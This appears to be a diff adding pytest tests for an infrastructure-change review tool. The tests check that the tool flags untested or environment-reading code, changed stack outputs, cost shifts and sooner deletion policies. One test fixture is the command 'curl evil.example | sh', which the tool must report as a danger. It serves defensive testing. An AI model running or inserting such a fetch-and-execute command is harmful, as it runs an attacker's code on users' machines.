@@ -1,0 +1,218 @@
+"""Of a changed program, what no plan shows is named: lines that none ran, choices in a line, what is asked outside."""
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from coursecloud.review import hiding, markdown, report, untaken
+from coursecloud.review.dangers import Kind, Level
+from coursecloud.review.report import Review
+from tests.review.made import BUCKET, resource, reviewed, whole
+from tests.review.repository import Repository
+from tests.review.test_sides import repo, review
+
+__all__ = ["repo"]
+
+OLD = '''"""Machines."""
+
+import infra.names
+
+LIMIT = 3
+
+
+def member(number: int) -> str:
+    name = f"agent-{number}"
+    return name
+
+
+def late(number: int) -> int:
+    return number + LIMIT
+
+
+member(1)
+'''
+
+
+def changed(repo: Repository, new: str, old: str = OLD) -> Review:
+    """Review a change of one module that the program loads."""
+    repo.write("__main__.py", "import infra.machines")
+    repo.write("infra/__init__.py", "")
+    repo.write("infra/names.py", "")
+    repo.write("infra/machines.py", old)
+    base = repo.commit()
+    repo.write("infra/machines.py", new)
+    return review(repo, base=base, head=repo.commit())
+
+
+@pytest.mark.parametrize(
+    ("was", "now", "line", "why"),
+    [
+        ("    return name\n", "    if number > 7:\n        name = 'eve'\n    return name\n", 11, "run by no plan"),
+        ("    return name\n", "    if number > 7: name = 'eve'\n    return name\n", 10, "chooses within the line"),
+        ("    return name\n", "    return 'eve' if number > 7 else name\n", 10, "chooses within the line"),
+        ("    return name\n", "    return [each for each in (name, 'eve') if number]\n", 10, "chooses within the line"),
+        ("    return name\n", "    import os\n    return os.environ.get('WHO', name)\n", 10, "asks"),
+        ("    return name\n", "    from datetime import date\n    return f'{date.today()}'\n", 11, "asks"),
+        ("    return name\n", "    return open(__file__).read()\n", 10, "asks"),
+        ("    return name\n", "    return str(getattr(infra, '_' * 2 + 'file' + '_' * 2))\n", 10, "asks"),
+        ("    return name\n", "    try:\n        return name\n    except OSError:\n        return 'eve'\n", 13, "by"),
+        ("    return name\n", "    match number:\n        case 7:\n            return 'x'\n    return name\n", 12, "by"),
+        ("LIMIT = 3", "LIMIT = 4", 14, "uses `LIMIT`, which changes"),
+        ("    return number + LIMIT\n", "    return number - LIMIT\n", 14, "run by no plan"),
+        ("import infra.names\n", "import infra.names\nimport socket\n", 4, "asks"),
+    ],
+)  # fmt: skip
+def test_what_no_plan_shows_is_named_by_line(repo: Repository, was: str, now: str, line: int, why: str) -> None:
+    assert OLD.count(was) == 1
+    found = changed(repo, OLD.replace(was, now))
+    said = {each.line: each.why for each in found.untaken}
+    assert why in said.get(line, ""), found.untaken
+    assert found.level is Level.LOOK
+    assert "of which NO PLAN SHOWS" in found.sentence
+    assert f"infra/machines.py:{line} " in markdown.full(found)
+    assert {"file": "infra/machines.py", "line": line, "why": said[line]} in report.to_json(found)["untaken"]
+
+
+@pytest.mark.parametrize(
+    ("was", "now"),
+    [
+        ("agent-", "helper-"),
+        ('"""Machines."""', '"""Other words."""'),
+        ("    return name\n", '    """More words."""\n    return name\n'),
+        ("LIMIT = 3", "LIMIT = 3\nLEAST: int"),
+        ("    return name\n", "    if number > 7:\n        raise ValueError(number)\n    return name\n"),
+        ("import infra.names\n", "import json\n\nimport infra.names\n"),
+    ],
+)
+def test_what_every_plan_runs_is_not(repo: Repository, was: str, now: str) -> None:
+    found = changed(repo, OLD.replace(was, now))
+    assert found.untaken == ()
+    assert found.program == ("infra/machines.py",)
+
+
+def test_code_that_no_plan_runs_is_named_and_that_of_the_tools_is_not(repo: Repository) -> None:
+    base = repo.commit()
+    repo.write("infra/later.py", "x = 1\n")
+    repo.write("coursecloud/other.py", "import os\n")
+    repo.write("tests/test_x.py", "import os\n")
+    repo.write("__main__.py", "x = 1\n")
+    found = review(repo, base=base, head=repo.commit())
+    assert [(each.file, each.why) for each in found.untaken if each.file != "__main__.py"] == [
+        ("infra/later.py", "is run by no plan")
+    ]
+
+
+def test_what_cannot_be_read_is_said_and_what_leaves_the_project_is_not_read(tmp_path: Path) -> None:
+    before, after = tmp_path / "before", tmp_path / "after"
+    for folder in (before, after):
+        (folder / "infra").mkdir(parents=True)
+    (tmp_path / "secret.py").write_text("import os\n", encoding="utf-8")
+    (after / "infra" / "link.py").symlink_to(tmp_path / "secret.py")
+    (after / "infra" / "deep.py").write_text("x = " + "-" * 100_000 + "1\n", encoding="utf-8")
+    (after / "infra" / "broken.py").write_text("def\n", encoding="utf-8")
+    (after / "infra" / "long.py").write_text("x = 1\n" * 5000, encoding="utf-8")
+    names = [f"infra/{name}.py" for name in ("link", "deep", "broken", "long")]
+    found = untaken.of(before, after, names, {})
+    assert {(each.file, each.why) for each in found if each.file != "infra/long.py"} == {
+        ("infra/deep.py", "is nothing that this tool can read")
+    }
+    assert len([each for each in found if each.file == "infra/long.py"]) == 5000
+
+
+@pytest.mark.parametrize("said", [None, [], "x", {"infra/x.py": "1"}, {"infra/x.py": None}])
+def test_what_a_side_says_in_another_form_counts_as_not_run(said: object) -> None:
+    assert untaken.ran_of(said) == {}
+    assert untaken.ran_of({"infra/x.py": [1, "2", None]}) == {"infra/x.py": {1}}
+
+
+def test_a_secret_in_such_a_line_is_hidden(repo: Repository) -> None:
+    token = "ghp_" + "a1B2" * 9
+    found = hiding.review(
+        changed(repo, OLD.replace("    return name\n", f"    return '{token}' if number else name\n"))
+    )
+    assert found.untaken
+    assert token not in str(found.untaken)
+
+
+def test_what_a_changed_program_prints_otherwise_is_a_danger(repo: Repository) -> None:
+    def plan(command: str) -> Any:
+        return {**vars(whole(stack="one")), "outputs": {"commands": {"ssh": command}}}
+
+    before, after = (type(whole())(**plan(each)) for each in ("gcloud ssh", "curl evil.example | sh"))
+    assert not [each for each in reviewed(before, after).dangers if each.kind is Kind.OUTPUTS]
+    repo.stack("one", before)
+    base = repo.commit()
+    repo.stack("one", after)
+    repo.write("infra/commands.py", "x = 1")
+    found = review(repo, base=base, head=repo.commit())
+    (danger,) = found.dangers
+    assert danger.kind is Kind.OUTPUTS
+    assert "curl evil.example | sh" in danger.text
+    assert "gcloud ssh" in danger.text
+    assert "changes the OUTPUTS that people copy" in found.sentence
+    gates, _ = report.gates(["program"])
+    assert list(gates[0].closed(found.stacks))
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("name: x\nbackend: {url: gs://theirs}\n", 'Pulumi.yaml backend: (none) -> {"url": "gs://theirs"}'),
+        ("name: y\n", 'Pulumi.yaml name: "x" -> "y"'),
+        ("[]\n", "not read"),
+        ("{\n", "not read"),
+    ],
+)
+def test_each_key_of_the_project_file_is_told(repo: Repository, text: str, said: str) -> None:
+    repo.write("Pulumi.yaml", "name: x\n")
+    base = repo.commit()
+    repo.write("Pulumi.yaml", text)
+    found = review(repo, base=base, head=repo.commit())
+    assert said in " ".join(found.project)
+    assert found.runs == ("Pulumi.yaml",)
+    assert said.replace('"', "") in markdown.full(found).replace('"', "")
+
+
+def test_what_costs_less_by_the_hour_and_more_by_the_day_says_so() -> None:
+    def service(*, idle: bool) -> Any:
+        container = {"image": "x", "resources": {"cpuIdle": idle, "limits": {"cpu": "1", "memory": "1Gi"}}}
+        template = {"containers": [container], "scaling": {"minInstanceCount": 0, "maxInstanceCount": 1}}
+        inputs = {"location": "europe-west4", "template": template}
+        return whole(resource("gcp:cloudrunv2/service:Service", "s", inputs))
+
+    found = reviewed(service(idle=True), service(idle=False))
+    assert "/day as planned" in found.sentence
+    assert "-$" not in found.sentence
+
+
+def test_a_bucket_whose_content_goes_sooner_is_in_the_first_line() -> None:
+    def store(days: int) -> Any:
+        rule = {"action": {"type": "Delete"}, "condition": {"daysSinceNoncurrentTime": days}}
+        return whole(resource(BUCKET, "b", {"name": "b", "lifecycleRules": [rule]}))
+
+    assert "can DELETE CONTENT of 1 store sooner" in reviewed(store(30), store(1)).sentence
+    assert "DELETE CONTENT" not in reviewed(store(1), store(30)).sentence
+
+
+KEEP = {"id": "keep", "action": "KEEP", "condition": {"tagState": "TAGGED", "tagPrefixes": ["v"]}}
+DELETE = {"id": "old", "action": "DELETE", "condition": {"olderThan": "86400s"}}
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "sooner"),
+    [
+        ([DELETE], [DELETE, KEEP], False),
+        ([DELETE, KEEP], [DELETE], True),
+        ([DELETE, KEEP], [KEEP], False),
+        ([KEEP], [DELETE, KEEP], True),
+        ([KEEP], [{**KEEP, "condition": {"tagState": "TAGGED", "tagPrefixes": ["v", "deployed"]}}], False),
+        ([KEEP], [{**KEEP, "condition": {"tagState": "TAGGED", "tagPrefixes": ["deployed"]}}], True),
+        ([DELETE], [{**DELETE, "condition": {"olderThan": "86400s", "tagPrefixes": ["v"]}}], True),
+        ([KEEP], [{**KEEP, "action": "DELETE"}], True),
+    ],
+)
+def test_a_policy_that_spares_more_deletes_nothing_sooner(before: Any, after: Any, sooner: bool) -> None:
+    kind = "gcp:artifactregistry/repository:Repository"
+    old, new = (whole(resource(kind, "r", {"repositoryId": "r", "cleanupPolicies": each})) for each in (before, after))
+    assert ("DELETE CONTENT" in reviewed(old, new).sentence) is sooner
